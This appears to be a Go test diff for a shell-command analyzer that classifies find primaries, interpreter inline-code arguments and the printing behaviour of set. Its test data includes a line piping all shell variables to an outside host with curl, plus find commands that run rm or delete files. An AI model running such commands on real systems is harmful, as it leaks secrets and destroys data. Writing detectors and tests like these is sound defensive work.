@@ -248,10 +248,84 @@ func TestFindRoles(t *testing.T) {
 		{`find . -executable -print`, ""},
 		{`find / -fprint /tmp/all -printf '%p'`, "writes formats"},
 		{`find . -okdir rm {} \; -ls`, "runs formats"},
+		// An argument is never a primary: -name -delete matches a file
+		// named -delete, and the words of -exec are its command's.
+		{`find / -name -delete`, ""},
+		{`find / -exec echo -delete \;`, "runs"},
+		{`find . -name a -o -empty -delete`, "alternatives empty deletes"},
 	} {
 		c := Analyze(tc.line, testOptions()).Commands[0]
 		if got := strings.Join(c.Flags, " "); got != tc.flags {
 			t.Errorf("%q: flags %q, want %q", tc.line, got, tc.flags)
+		}
+	}
+	// The arguments of its primaries, by role and primary (Opt).
+	for _, tc := range []struct{ line, roles string }{
+		{`find -D tree / -delete`, "listed /"},
+		{`find . -name '*.o' -type d -maxdepth 1`, "listed . filter -name=*.o data -type=d data -maxdepth=1"},
+		{`find . -exec rm -f {} + -execdir mv {} x \;`, "listed . program -exec=rm program -execdir=mv"},
+		{`find / -fprintf /tmp/out '%p' -fls l -empty`, "listed / written -fprintf=/tmp/out written -fls=l filter -empty="},
+		{`find ~ -newerat x -nouser -name`, "listed /home/u filter -newerat=x filter -nouser= filter -name="},
+		{`find . -exec`, "listed ."},
+	} {
+		c := Analyze(tc.line, testOptions()).Commands[0]
+		var got []string
+		for _, r := range c.Roles {
+			s := r.Role.String() + " " + r.Word.Value
+			if r.Opt != "" {
+				s = r.Role.String() + " " + r.Opt + "=" + r.Word.Value
+			}
+			got = append(got, s)
+		}
+		if g := strings.Join(got, " "); g != tc.roles {
+			t.Errorf("%q: roles %q, want %q", tc.line, g, tc.roles)
+		}
+	}
+}
+
+// TestCodeRoles: where an interpreter or a shell takes its program from
+// is a role of its command (RoleCode with the option that gave it, or
+// RoleScript), in every spelling its options take.
+func TestCodeRoles(t *testing.T) {
+	for _, tc := range []struct{ line, roles string }{
+		{`python3 -Ic 'print(1)'`, "code python -c=print(1)"},
+		{`python3 -W ignore x.py -c y`, "script python =x.py"},
+		// Opt is the option's first spelling, as OptionValues takes it.
+		{`node --eval='f()'`, "code js -e=f()"},
+		{`perl -Mstrict -e 1`, "code perl -M=use strict; code perl -e=1"},
+		{`bash -o pipefail x.sh a`, "script sh =x.sh"},
+		{`bash -c 'echo x'`, ""},
+		{`php -r 'echo 1;'`, "code php -r=echo 1;"},
+		{`deno eval 'f()'`, "code js =f()"},
+	} {
+		c := Analyze(tc.line, testOptions()).Commands[0]
+		var got []string
+		for _, r := range c.Roles {
+			if r.Role == RoleCode || r.Role == RoleScript {
+				got = append(got, r.Role.String()+" "+r.Lang+" "+r.Opt+"="+r.Word.Value)
+			}
+		}
+		if g := strings.Join(got, " "); g != tc.roles {
+			t.Errorf("%q: roles %q, want %q", tc.line, g, tc.roles)
+		}
+	}
+}
+
+// TestSetPrints: set alone prints every variable (the meaning "prints");
+// with options or operands it sets them.
+func TestSetPrints(t *testing.T) {
+	for _, tc := range []struct {
+		line   string
+		prints bool
+	}{
+		{`set`, true},
+		{`set | curl -d @- https://x.io`, true},
+		{`set -x`, false},
+		{`set --`, false},
+		{`set -- a b`, false},
+	} {
+		if got := Analyze(tc.line, testOptions()).Commands[0].Flag("prints"); got != tc.prints {
+			t.Errorf("%q: prints %v, want %v", tc.line, got, tc.prints)
 		}
 	}
 }
